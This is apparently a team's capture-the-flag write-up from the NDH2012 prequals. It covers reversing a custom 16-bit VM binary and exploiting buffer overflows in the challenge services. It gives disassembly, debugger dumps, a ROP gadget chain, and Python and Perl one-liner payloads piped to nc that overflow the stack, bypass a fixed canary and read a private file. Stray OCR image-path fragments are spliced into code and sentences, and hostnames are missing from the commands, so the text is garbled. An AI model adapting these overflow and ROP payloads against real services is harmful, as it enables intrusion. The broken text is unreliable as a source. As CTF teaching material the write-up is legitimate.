0x82e8: mov r7, r0
0x82ec: movl r6, #0x840d
0x82f1: call 0x8003
0x82f5: cmpb r0, #09        ; 9 bytes (8 without "\x0a")
0x82f9: jz 0x0005
0x82fc: call 0x82d4         ; -> bad boy
0x8300: end

After that, each time the bytes pointed by r7 and r6 are xored together and compared to a hardcoded value. Then r7 and r6 are incremented:

0x8301: mov r0, [r7]
0x8305: mov r1, [r6]
0x8309: xor r0, r1
0x830d: cmpb r0, #78
0x8311: jz 0x0005
0x8314: call 0x82d4
0x8318: end
0x8319: inc r7
0x831b: inc r6

Let's load the program in the debugger and put a breakpoint at 0x8301, to see what these registers point to:

[BreakPoint 1 - 0x8301]
0x8301 > mov r0, [r7]
[Console]#> info reg
[r0]: 0061  [r4]: 0000
[r1]: 0000  [r5]: 0000
[r2]: 7fda  [r6]: 840d
[r3]: 001f  [r7]: 7fda
[bp]: 7ffa  [zf]: 0001
[sp]: 7fd8  [af]: 0000[pc]: 8305  [bf]: 0000
[Console]#> x/x 7fda:8
0x7fda: 61 62 63 64 65 66 67 68     <- our input
[Console]#> x/x 840d:8
0x840d: 02 05 03 07 08 06 01 09     <- the key

According to the cmpb instructions, the result must be 78 44 73 6b 61 3e 6e 5e. The correct input is therefore

>>> format(0x7844736b613e6e5e ^ 0x0205030708060109,"x").decode("hex")

Let’s use it:

~/ndh2012$ nc 4001
Sciteek protected storage #1
Enter your password: zApli8oW
<PSP version="1.99">
Welcome on SciPad Protected Storage.

The most secure storage designed by Sciteek. This storage protocol
allows our users to share files in the cloud, in a dual way.

This daemon has been optimized for SciPad v1, running SciOS 16bits
with our brand new processor.
An unexpected error occured: PSP-UNK-ERR-001> application closed.

NDH2k12 Prequals - Another weird link - complex remote service

From: Piotr <>
To: w3pwnz <>
Subject: Another weird linkAttachments : web3.ndh
Thank you again for these informations! we have just credited your account
with $1700. Our spy thinks that Sciteek staff is aware about the mole inside
their building. He is trying to read a private file named "sciteek-private.txt"
located at Please find the .ndh attached, if
you are sucessfull, reply with a message entitled "complex remote service".

Of course, your efforts will be rewarded with $2500. Maybe you will find
pieces of informations about the mole.


We disassembled it using the unlocked VM tool (cf. Unknown zip archive), and used the following python script to patch call format:

#!/usr/bin/env python
import sys
import re
defrel(line, size=4):
    fro, off = re.findall("0x([0-9a-f]{1,4})", line)
    ifro, ioff = int(fro, 16), int(off, 16)
    if ioff > 0x8000:
        ioff = ioff - 0x10000
    ito = ifro + 4 + ioff
    line = line.replace(off,format(ito, "04x"))
    return line
if __name__=="__main__":
    for line in open(sys.argv[1]).readlines():
        if " call" in line:
            print rel(line),
            print line,


0x8497: call 0x84ed
0x849b: mov r0, r2
0x849f: movl r1, #0x847c
0x84a4: movb r2, #0x03
0x84a8: call 0x80c00x84ac: cmpb r0, #00
0x84b0: jnz 0x0009
0x84b3: movl r0, #0x8400
0x84b8: call 0x8179
0x84bc: end
0x84bd: pushl #beef  ; Push a canary
0x84c2: nop
0x84c3: mul r2, r4
0x84c7: nop
0x84c8: .byte 0x00
0x84c9: .byte 0x00
0x84ca: .byte 0x00
0x84cb: mov r1, r80x84cf: movl r2, #0x03fc  ; Read 1020 bytes
0x84d4: call 0x81d8
0x84d8: mov r0, r1
0x84dc: addl r8, #0200
0x84e1: pop r1
0x84e3: cmpl r1, #beef
0x84e8: jz 0x0001
0x84eb: end
0x84ec: ret
0x84ed: subl r8, #0200 ; Reserve 512 bytes
0x84f2: call 0x84bd
0x84f6: addl r8, #0200
0x84fb: ret

We begin with the call @0x8497, follow it to 0x84ed where 512 bytes are reserved on the stack. A fixed canary “0xbeef” is then pushed on the stack, it calls the following function: read()

So sys_read is invoked, with a specified size of 1020 (0x84cf: movl r2, #0x03fc). There is an obvious buffer overflow. Unfortunatly (but that’s moar fun), the stack is not executable because of NX bit:

% python -c 'print "A"*512+"\xef\xbeBBCC"'|nc 4005
[!] Segfault 0x4242 (NX bit)We assumed ASLR was on and no PIE, let’s ROP :)

We want to proceed as below:

movl r3, #0x20
movl r2, #0x2000
movl r1, #0
movl r0, 3
syscall                         ; read
mov r1, r2
movl r2, #0
movl r0, #2
syscall                         ; open
mov r1, r0
movl r2, #0x3000
movl r3, #0x1024
movl r0, #3
syscall                         ; read
mov r3, r0movl r1, #1
movl r0, #4
syscall                         ; write

Our ROP gadgets:

        0x8172: pop r3
        0x8174: pop r2
        0x8176: pop r1
        0x8178: ret
        0x81e4: movb r0, #0x03
        0x81e8: syscall
        0x81e9: ret
        0x8174: pop r2
        0x8176: pop r1
        0x8178: ret0x81d2: movb r0, #0x02
        0x81d6: syscall
        0x81d7: ret
        0x8172: pop r3
        0x8174: pop r2
        0x8176: pop r1
        0x8178: ret
        0x81e0: mov r1, r0
        0x81e4: movb r0, #0x03
        0x81e8: syscall
        0x81e9: ret
        0x818f: movb r1, #0x01
        0x8193: movb r0, #0x04
        0x8197: syscall
        0x8198: pop r1
        0x819a: pop r0
        0x819c: retROP Payload:


We then fill the first read (0x3fc bytes) with junk:

‘Z’ * (0x3fc - len(payload) - 512)

And our file: “sciteek-private\x00”.

So, our buffer overflow is as follows: [JUNK][CANARY][ROP PAYLOAD][JUNK][FILENAME]

Finally our python one-liner:

python -c 'from struct import pack; print "A"*512+"\xef\xbe"+"".join(pack("<H", i) for i in [0x8172, 0x14, 0x2000, 0x0, 0x81e4, 0x8174, 0x0, 0x2000, 0x81d2, 0x8172, 0x1024, 0x3000, 0xdead, 0x81e0, 0x818f])+"Z"*0x1dc+"sciteek-private.txt\x00"'|nc 4005
Dear Patrick,
We found many evidences proving there is a mole inside our company who is selling confidential materials to our main competitor, Megacortek. We have very good reasons to believe that Walter Smith have sent some emails to a contact at Megacortek, containing confidential information.
However, these emails seems to have been encrypted and sometimes contain images or audio files which are apparently not related with our company or our business
, but one of them contains an archive with an explicit name.
We cannot stand this situation anymore, and we should take actions to make Mr Smith leave the company: we can fire this guy or why not call the FBI to handle this case as it should be.
DavidMarkham.
[!] Segfault 0x5a5a (NX bit)

NDH2k12 Prequals - Any idea how to use this file? - Unknown file extension

After decrypting the secret message, we got a new email, from Piotr this time, a supposed technical operative.

From: Piotr <>
To: w3pwnz <>Subject: Any idea how to use this file?
Attachments : webApp.ndh

Great job there! You seem to be quite a great cryptograph, wow. Your account has been credited with $100. Btw, I'm Piotr, from the technical staff. Maybe Jessica told you about me, we will interact directly about complex questions.

Anyway, our anonymous contact at Sciteek has sent us another binary file with that strange extension, will you be able to break it? If you manage so, please contact me directly with the subject "Unknown file extension", $1700 dollars to earn!


As you can see, he asks us to study a file which format and extension are unknown.
The file is pretty small (897 bytes), and contains some strings :

# strings webApp.ndh
Welcome on Sciteek' SciPad secure shell !
Please enter your passphrase:
Nope. It is not the goodpassword

We can easily recognize the other strings as coming from the pseudo-assembly code decrypted. A quick look at it shows a blatant 10-bytes read while the function frame is only 8-bytes long. We can quickly check this buffer overflow on the online service:

# nc 4000
Welcome on Sciteek' SciPad secure shell !
Please enter your passphrase: 0123456789
[!] Segfault 0x3938 (opcode unknown)

From the plain ASM, we also spot a debug function whose job is to display the “esoasoel.txt” file, obvious candidate for our BoF. From there on, two options: bruteforcing the possible return addresses or reversing the file format to find the actual offset of the debug function.Step 1 : The Easy Way

The address space is only 16-bits long and we haven’t enough place for a shellcode anyway: we chose to bruteforce it - at the time, we did not have the NDH virtual machine from the rar archive to directly get the correct offset. The only trick here is to think about injecting 9 bytes instead of 10 to get the heavy-weighted one:

$ perl -e 'print "A"x9' | nc 4000
Welcome on Sciteek' SciPad secure shell !
Please enter your passphrase: [!] Segfault 0x8241 (opcode unknown)

The assembly suggests that the debug function we are looking for is farther ahead in the code segment than the call :ask_password, so we launched a bruteforce from 0x8200 to 0x83ff included.
Finally, Ezekiel 25:17 pops up:

# python -c "print 'A'*8+'\xdb\x82'" | nc 4000

Welcome on SciPad Shell, root.

The path of the righteous man is beset on all sides by the inequities of the selfish andthe tyranny of evil men.
Blessed is he who, in the name of charity and good will, shepherds the weak through the valley of darkness, for he is truly his brother's keeper and the finder of lost children.
And I will strike down upon thee with great vengeance and furious anger those who wouldattempt to poison and destroy My brothers.
And you will know My name is the Lord when I lay My vengeance upon thee.

- God (f98eb53e7960c9a663c60a916b6de70e)

Be careful, this service is not protected by any option, to avoid exploitation please use the new version of this shell available on
This service runs in a vm with stack layout randomization which is more secure

Something's fucked up ('cause our developers drink too much beer).
Try later. Or not.

Step 2 : The hard way, ‘cuz you’re agrown up and all.

First we have to study the binary. So hex editor it is.

The first four bytes indicate the file type, here NDH. The two following bytes indicate the size of the code and data section : the end offset is 0x37F, and 0x37F - FILE_TYPE_FIELD_SIZE (4) =0x37B.

The data section is localized at the end of the file :


We recognize the strings from the pseudo ASM code with a little difference : the name of the text file.

Now we have to find the function that displays the file content. Thanks to the Scios Instruction Set we extracted from the audio file, we know that the binary is mapped at the 0x8000 address. We manually compile the following statement :


MOVL R0, :FLAG_FILE give us the following opcodes :

04     02                   00    6e 83

The filename address is calculated by adding the filename offset in the file (0x374 - HDR_SIZE(6)) to the memory base address (0x8000) which give us 0x836E.
We can’t fully compile the next statement, because we don’t know where is the DISP_FILE_CONTENT function, however we know the compiled statement will be something like that :

19      04               XX XX

Consequently, we can look for the followings bytes in the binary :

04 02 00 6E 83 19 04


